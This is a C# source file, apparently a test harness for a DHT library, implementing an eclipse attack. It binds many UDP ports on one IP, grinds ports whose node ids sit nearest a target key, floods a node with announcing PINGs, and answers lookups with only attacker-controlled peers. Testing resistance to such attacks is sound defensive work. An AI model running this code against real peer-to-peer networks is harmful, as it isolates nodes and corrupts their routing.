using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;
using DhtRpc.Crypto;
using DhtRpc.Wire;

namespace DhtRpc.Hostile;

/// <summary>
/// Many ports on one IP posing as many nodes: raw UDP sockets that answer PING, FIND_NODE and every
/// other request with hand-encoded replies carrying their (valid) id and, as closer nodes, only the
/// attacker's own ports nearest the asked target. Some ports are chosen so that their ids lie closest
/// to a target key. Each port can announce itself to a node with a PING that carries its id.
/// </summary>
internal sealed class EclipseAttacker : IAsyncDisposable
{
    private const int BufferBytes = 2048;
    private readonly List<(Socket Socket, Ipv4Endpoint Endpoint, NodeId Id, byte[] IdBytes)> _ports = [];
    private readonly CancellationTokenSource _stop = new();
    private readonly List<Task> _loops = [];
    private long _requests;

    private EclipseAttacker(IPAddress address) => Address = address;

    public IPAddress Address { get; }

    public int Ports => _ports.Count;

    /// <summary>How many of <see cref="Ports"/>, the first ones, were chosen for their closeness to the target.</summary>
    public int Targeted { get; private set; }

    public long RequestsAnswered => Interlocked.Read(ref _requests);

    /// <summary>The longest prefix any of the attacker's ids shares with <paramref name="target"/>.</summary>
    public int ClosestPrefix(NodeId target) => _ports.Count == 0 ? 0 : _ports.Max(p => p.Id.CommonPrefixLength(target));

    public bool Owns(Ipv4Endpoint endpoint) => endpoint.ToIPAddress().Equals(Address);

    /// <summary>
    /// Binds <paramref name="targeted"/> ports whose ids are the closest to <paramref name="target"/> among
    /// all ports of <paramref name="address"/>, then random others up to <paramref name="total"/>, and starts answering.
    /// </summary>
    public static EclipseAttacker Start(IPAddress address, NodeId target, int total, int targeted)
    {
        var attacker = new EclipseAttacker(address);
        var host = Ipv4Endpoint.FromIPEndPoint(new IPEndPoint(address, 0));
        var byCloseness = Enumerable.Range(1024, 65536 - 1024)
            .Select(port => (Port: port, Id: Blake2b.NodeIdOf(host.WithPort(port))))
            .Order(Comparer<(int Port, NodeId Id)>.Create((a, b) => target.CompareDistance(a.Id, b.Id)))
            .Select(p => p.Port)
            .ToList();
        foreach (var port in byCloseness)
        {
            if (attacker._ports.Count >= targeted)
            {
                break;
            }

            attacker.TryBind(host.WithPort(port));
        }

        attacker.Targeted = attacker._ports.Count;
        var bound = attacker._ports.Select(p => (int)p.Endpoint.Port).ToHashSet();
        var others = byCloseness.Where(port => !bound.Contains(port)).OrderBy(_ => Random.Shared.Next()).ToList();
        for (var i = 0; i < others.Count && attacker._ports.Count < total; i++)
        {
            attacker.TryBind(host.WithPort(others[i]));
        }

        foreach (var port in attacker._ports)
        {
            attacker._loops.Add(Task.Run(() => attacker.AnswerAsync(port.Socket, port.Endpoint, port.IdBytes)));
        }

        return attacker;
    }

    /// <summary>
    /// Every port (or the first <paramref name="count"/>: the targeted ones come first) sends <paramref name="node"/> a
    /// PING carrying its id, 100 every 10 ms so that the node's receive buffer keeps up.
    /// </summary>
    public async Task AnnounceAsync(Ipv4Endpoint node, int count = int.MaxValue)
    {
        var to = node.ToIPEndPoint();
        for (var i = 0; i < Math.Min(count, _ports.Count); i++)
        {
            var (socket, _, _, id) = _ports[i];
            var ping = Packets.Request((ushort)Random.Shared.Next(65536), node, Packets.Ping, isInternal: true, id: id);
            try
            {
                socket.SendTo(ping, to);
            }
            catch (SocketException)
            {
                // The node is not there: nothing to announce to.
            }

            if (i % 100 == 99)
            {
                await Task.Delay(10).ConfigureAwait(false);
            }
        }
    }

    public async ValueTask DisposeAsync()
    {
        await _stop.CancelAsync().ConfigureAwait(false);
        foreach (var (socket, _, _, _) in _ports)
        {
            socket.Dispose();
        }

        try
        {
            await Task.WhenAll(_loops).WaitAsync(TimeSpan.FromSeconds(10)).ConfigureAwait(false);
        }
        catch (TimeoutException)
        {
            // A loop still inside a send: the process ends soon after.
        }

        _stop.Dispose();
    }

    private void TryBind(Ipv4Endpoint endpoint)
    {
        var socket = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);
        try
        {
            socket.Bind(endpoint.ToIPEndPoint());
            var id = Blake2b.NodeIdOf(endpoint);
            _ports.Add((socket, endpoint, id, id.ToArray()));
        }
        catch (SocketException)
        {
            socket.Dispose(); // Taken: the next candidate.
        }
    }

    private async Task AnswerAsync(Socket socket, Ipv4Endpoint self, byte[] id)
    {
        var buffer = new byte[BufferBytes];
        var from = new SocketAddress(AddressFamily.InterNetwork);
        while (!_stop.IsCancellationRequested)
        {
            int n;
            try
            {
                n = await socket.ReceiveFromAsync(buffer, SocketFlags.None, from, _stop.Token).ConfigureAwait(false);
            }
            catch (Exception e) when (e is OperationCanceledException or ObjectDisposedException)
            {
                return;
            }
            catch (SocketException)
            {
                continue; // ICMP unreachable from an earlier send.
            }

            if (!PacketReader.TryRequest(buffer.AsSpan(0, n), out var request))
            {
                continue; // Replies to our announcements, and anything else.
            }

            var sender = (IPEndPoint)new IPEndPoint(IPAddress.Any, 0).Create(from);
            Answer(socket, self, id, request, sender);
        }
    }

    private void Answer(Socket socket, Ipv4Endpoint self, byte[] id, ParsedRequest request, IPEndPoint sender)
    {
        var replyTo = sender;
        if (request.Internal && request.Command == Packets.PingNat)
        {
            if (request.Value is not { Length: >= 2 } value || (value[0] | (value[1] << 8)) == 0)
            {
                return;
            }

            replyTo = new IPEndPoint(sender.Address, value[0] | (value[1] << 8));
        }

        var closer = request.Target is { } target ? Closest(NodeId.Read(target), self) : null;
        var error = request.Internal && request.Command > Packets.DelayedPing ? 1UL : 0UL;
        var token = request.Internal ? default : RandomNumberGenerator.GetBytes(32);
        var reply = Packets.Response(request.Tid, Ipv4Endpoint.FromIPEndPoint(replyTo), id, token, closer, error, null);
        try
        {
            socket.SendTo(reply, replyTo);
            Interlocked.Increment(ref _requests);
        }
        catch (Exception e) when (e is SocketException or ObjectDisposedException)
        {
            // Gone or unreachable: nothing to answer.
        }
    }

    /// <summary>The attacker's 20 ports whose ids are nearest <paramref name="target"/>, the answering port left out.</summary>
    private List<Ipv4Endpoint> Closest(NodeId target, Ipv4Endpoint self) =>
        [.. _ports
            .Where(p => p.Endpoint != self)
            .OrderBy(p => p.Id, Comparer<NodeId>.Create((a, b) => target.CompareDistance(a, b)))
            .Take(20)
            .Select(p => p.Endpoint)];
}
